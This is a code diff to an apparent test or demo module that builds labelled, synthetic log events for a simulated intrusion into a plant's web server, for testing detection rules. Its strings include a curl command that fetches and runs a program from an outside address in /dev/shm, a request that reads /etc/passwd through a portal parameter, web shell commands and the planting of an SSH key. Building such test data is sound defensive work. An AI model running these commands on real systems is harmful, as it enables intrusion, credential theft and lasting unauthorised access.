@@ -10,7 +10,6 @@ rest.
 import hashlib
 from random import Random
 from typing import Final
-from urllib.parse import quote_plus
 
 from tests.demo.plant import (
     CONTROLLER_ADDRESS,
@@ -35,25 +34,27 @@ from tests.demo.sensors import (
 OUTSIDE: Final = "203.0.113.45"
 DOMAIN: Final = "t.nordwerk-sync.example"
 AGENT: Final = "python-requests/2.32.3"
+#: His program on the web server, in a folder that lies in memory.
+HELPER: Final = "/dev/shm/.w"
 #: The web shell that his upload became.
 SHELL: Final = "/uploads/logo.php"
 SERVICE_BINARY: Final = "WmRkTqbz.exe"
 
 #: Seconds after the play's start at which the plant's network sensor is cut off.
 SENSOR_CUT_S: Final = 18.8
-SIGNATURE: Final = "NORDHAFEN WEB Path Traversal to the Password File"
+SIGNATURE: Final = "NORDHAFEN WEB Password File in a Request"
 
 
 def draft_web_server(pen: Pen) -> list[Draft]:
     """From the first request to the key that lets the intruder come back."""
-    loader = f"curl -fsS http://{OUTSIDE}/w -o /dev/shm/.w; sh /dev/shm/.w"
-    traversal = "/portal/export.php?file=../../../../../../etc/passwd"
+    loader = f"curl -fsS http://{OUTSIDE}/w -o {HELPER}; chmod +x {HELPER}; {HELPER}"
+    stolen = "/portal/export.php?file=/etc/passwd"
     return [
-        pen.access(0.8, OUTSIDE, f"GET {traversal} HTTP/1.1", 200, 1874, AGENT).labelled(
+        pen.access(0.8, OUTSIDE, f"GET {stolen} HTTP/1.1", 200, 1874, AGENT).labelled(
             "System File Asked For Through the Web and Answered",
             "the portal gives its password file away",
         ),
-        draft_alert(pen, 0.9, traversal),
+        draft_alert(pen, 0.9, stolen),
         pen.access(1.6, OUTSIDE, f"GET {SHELL}?cmd=id HTTP/1.1", 200, 54, AGENT).labelled(
             "Command Sent to a Web Shell", "an uploaded picture is a web shell"
         ),
@@ -63,14 +64,19 @@ def draft_web_server(pen: Pen) -> list[Draft]:
         draft_command(pen, 1.72, "/usr/bin/id", ("id",), 9101).labelled(
             "Web Server's Account Looks Around on Its Host", "the web shell asks who it is"
         ),
-        pen.access(
-            2.6, OUTSIDE, f"GET {SHELL}?cmd={quote_plus(loader)} HTTP/1.1", 200, 0, AGENT
-        ).labelled("Command Sent to a Web Shell", "the web shell is told to fetch a script"),
+        # An access log does not hold what a POST request carries.
+        pen.access(2.6, OUTSIDE, f"POST {SHELL} HTTP/1.1", 200, 0, AGENT).labelled(
+            None, "the web shell is told to fetch a program"
+        ),
         draft_command(pen, 2.7, "/usr/bin/dash", ("sh", "-c", loader), 9110).labelled(
             "Code From a Bare Address Fetched and Run",
-            "the web server's account fetches a script and runs it",
+            "the web server's account fetches a program and runs it",
         ),
         draft_fetch(pen, 2.8),
+        draft_command(pen, 3.1, HELPER, (HELPER,), 9113).labelled(
+            "Program Run From Memory or by a Service From a Temporary Folder",
+            "the program runs from memory",
+        ),
         draft_key(pen, 3.6),
     ]
 
@@ -119,7 +125,7 @@ def draft_command(pen: Pen, at: float, image: str, arguments: tuple[str, ...], p
 
 def draft_fetch(pen: Pen, at: float) -> Draft:
     """The shell's curl connects to the attacker's server."""
-    arguments = ("curl", "-fsS", f"http://{OUTSIDE}/w", "-o", "/dev/shm/.w")
+    arguments = ("curl", "-fsS", f"http://{OUTSIDE}/w", "-o", HELPER)
     call = describe_syscall("connect", "/usr/bin/curl", pid=9111, ppid=9110, uid=33, key="net")
     address = ("SOCKADDR", f"saddr={encode_socket_address(OUTSIDE, 80)}")
     return pen.audit(at, call, address, describe_title(arguments)).labelled(
@@ -128,16 +134,14 @@ def draft_fetch(pen: Pen, at: float) -> Draft:
 
 
 def draft_key(pen: Pen, at: float) -> Draft:
-    """The script leaves a key of the intruder's behind."""
+    """The program leaves a key of the intruder's behind."""
     folder = "/var/www/.ssh"
-    call = describe_syscall(
-        "openat", "/usr/bin/dash", comm="sh", pid=9112, ppid=9110, uid=33, key="webfiles", items=2
-    )
+    call = describe_syscall("openat", HELPER, pid=9113, ppid=9110, uid=33, key="webfiles", items=2)
     return pen.audit(
         at, call, ("CWD", 'cwd="/var/www/html/uploads"'),
         describe_path(0, folder, "PARENT", 33, "040700"),
         describe_path(1, f"{folder}/authorized_keys", "CREATE", 33, "0100644"),
-        describe_title(("sh", "/dev/shm/.w")),
+        describe_title((HELPER,)),
     ).labelled(
         "Key File for SSH Created by Another Program", "it leaves a key, to come back by SSH"
     )  # fmt: skip
